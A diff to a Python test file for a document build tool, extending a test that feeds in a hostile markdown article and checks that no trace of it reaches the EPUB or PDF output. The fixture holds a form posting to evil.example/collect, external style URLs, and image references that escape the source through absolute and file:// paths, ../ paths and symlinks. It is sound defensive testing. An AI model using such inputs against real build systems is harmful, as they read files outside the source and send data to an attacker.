@@ -3,15 +3,20 @@
 from __future__ import annotations
 
 import os
+import struct
 import subprocess
 import sys
 import zipfile
+import zlib
 from pathlib import Path
+
+import pikepdf
 
 from conftest import book_file, build_into
 from validators import epubcheck_problems, pdftotext_pages
 
 SECRET = "TOP-SECRET-OUTSIDE-SOURCE"
+ABSOLUTE_SECRET = "TOP-SECRET-AT-AN-ABSOLUTE-PATH"
 HOSTILE = """---
 title: Hostile
 author: Mallory
@@ -26,7 +31,11 @@ author: Mallory
 <p style="background:url(https://evil.example/bg.png)">styled</p>
 <form action="https://evil.example/collect"><input type="text" name="email"><button>Send</button></form>
 
-![host](/etc/hostname)
+![absolute](ABSOLUTE_PATH)
+
+![file url](file://ABSOLUTE_PATH)
+
+<img src="file://ABSOLUTE_PATH" alt="file url in HTML">
 
 ![secret](../outside.png)
 
@@ -34,6 +43,55 @@ author: Mallory
 
 [outside](../outside.md)
 """
+
+
+def png_with_text(text: str) -> bytes:
+    """A valid 1x1 PNG that carries text in a tEXt chunk: embedded as it is, the text shows."""
+
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+    header = struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0)  # 1x1, 8-bit RGBA
+    pixel = zlib.compress(b"\0\0\0\0\0")  # filter byte, one transparent pixel
+    return b"\x89PNG\r\n\x1a\n" + b"".join(
+        chunk(kind, data)
+        for kind, data in ((b"IHDR", header), (b"tEXt", b"Comment\0" + text.encode()), (b"IDAT", pixel), (b"IEND", b""))
+    )
+
+
+def _pdf_objects_text(obj, parts: list[str]) -> None:
+    """Add the names, strings and decoded stream data of a PDF object and the direct objects inside it."""
+    if isinstance(obj, pikepdf.Stream):
+        try:
+            parts.append(obj.read_bytes().decode("latin-1"))
+        except pikepdf.PdfError:  # a filter pikepdf cannot undo (DCT, JBIG2): the bytes as stored
+            parts.append(obj.read_raw_bytes().decode("latin-1"))
+    if isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
+        for key, value in obj.items():
+            parts.append(key)
+            if not getattr(value, "is_indirect", False):  # indirect objects come in their own turn
+                _pdf_objects_text(value, parts)
+    elif isinstance(obj, pikepdf.Array):
+        for value in obj:
+            if not getattr(value, "is_indirect", False):
+                _pdf_objects_text(value, parts)
+    elif isinstance(obj, pikepdf.String):
+        parts += [str(obj), bytes(obj).decode("latin-1")]
+    elif isinstance(obj, pikepdf.Name):
+        parts.append(str(obj))
+
+
+def pdf_text(path: Path) -> str:
+    """A PDF as text: its words as pdftotext reads them, the info dictionary, every string and every stream decoded.
+
+    The raw file is no use: pages, images, fonts, metadata and attachments sit in compressed streams.
+    """
+    parts = [" ".join(pdftotext_pages(path))]
+    with pikepdf.open(path) as pdf:
+        parts += [f"{key} {value}" for key, value in pdf.docinfo.items()]
+        for obj in pdf.objects:
+            _pdf_objects_text(obj, parts)
+    return "\n".join(parts)
 
 
 def all_output_text(dist: Path) -> str:
@@ -46,8 +104,7 @@ def all_output_text(dist: Path) -> str:
             with zipfile.ZipFile(path) as archive:
                 parts += [archive.read(n).decode("utf-8", "replace") for n in archive.namelist()]
         elif path.suffix == ".pdf":
-            parts.append(" ".join(pdftotext_pages(path)))
-            parts.append(path.read_bytes().decode("latin-1"))
+            parts.append(pdf_text(path))
         else:
             parts.append(path.read_bytes().decode("utf-8", "replace"))
     return "\n".join(parts)
@@ -56,9 +113,13 @@ def all_output_text(dist: Path) -> str:
 def test_hostile_article_leaves_no_trace_in_any_output(tmp_path):
     (tmp_path / "outside.png").write_bytes(b"\x89PNG\r\n\x1a\n" + SECRET.encode())
     (tmp_path / "outside.md").write_text(f"# Outside\n\n{SECRET}\n")
+    # A real image outside the source, named by its absolute path: one the test knows exists, unlike /etc/hostname.
+    absolute = tmp_path / "elsewhere" / "absolute.png"
+    absolute.parent.mkdir()
+    absolute.write_bytes(png_with_text(ABSOLUTE_SECRET))
     source = tmp_path / "src"
     source.mkdir()
-    (source / "hostile.md").write_text(HOSTILE)
+    (source / "hostile.md").write_text(HOSTILE.replace("ABSOLUTE_PATH", str(absolute)))
     (source / "linked.png").symlink_to(tmp_path / "outside.png")
     (source / "sneaky.md").symlink_to(tmp_path / "outside.md")
     result = build_into(source, tmp_path / "dist")
@@ -76,12 +137,11 @@ def test_hostile_article_leaves_no_trace_in_any_output(tmp_path):
         "<form",
         "<input",
         SECRET,
+        ABSOLUTE_SECRET,
+        str(absolute.parent),  # not even the path of a file outside the source
     )
     for bad in bad_strings:
         assert bad not in text, bad
-    hostname = Path("/etc/hostname")
-    if hostname.exists() and len(hostname.read_text().strip()) >= 6:  # short names match ordinary text
-        assert hostname.read_text().strip() not in text
     assert "Click me" in text and "Send" in text  # the words stay, the behaviour goes
     assert epubcheck_problems(book_file(result, ".epub")) == []
     warnings = " ".join(str(w) for w in result.diagnostics.warnings)
